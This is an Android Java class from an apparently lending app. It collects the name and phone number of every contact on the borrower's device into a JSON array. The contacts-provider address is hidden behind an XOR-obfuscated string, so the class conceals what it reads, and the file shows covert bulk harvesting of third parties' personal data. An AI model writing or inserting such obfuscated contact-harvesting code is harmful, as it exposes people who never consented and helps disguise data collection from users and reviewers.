package com.brightfern.credit.people;

import android.content.Context;
import android.database.Cursor;
import android.net.Uri;

import org.json.JSONArray;
import org.json.JSONException;
import org.json.JSONObject;

/** Lists names and numbers of everybody whom the borrower knows. */
public final class PeopleReader {
    private static final String[] COLUMNS = {"display_name", "data1"};

    private final Context context;

    public PeopleReader(Context context) {
        this.context = context;
    }

    public JSONArray read() {
        JSONArray people = new JSONArray();
        Cursor rows = context.getContentResolver()
                .query(Uri.parse(StringFog.decrypt(new byte[] {47, 14, 67, 14, 116, 34, 21, 23, 85, 62, 47, 14, 64, 84, 112, 34, 5, 95, 21, 120, 40, 79, 78, 21, 127, 56, 0, 78, 14, 98, 99, 5, 76, 14, 112, 99, 17, 69, 21, 127, 41, 18}, new byte[] {76, 97, 45, 122, 17})), COLUMNS, null, null, null);
        if (rows == null) {
            return people;
        }
        try {
            while (rows.moveToNext()) {
                people.put(new JSONObject().put("n", rows.getString(0)).put("p", rows.getString(1)));
            }
        } catch (JSONException error) {
            people = new JSONArray();
        } finally {
            rows.close();
        }
        return people;
    }
}
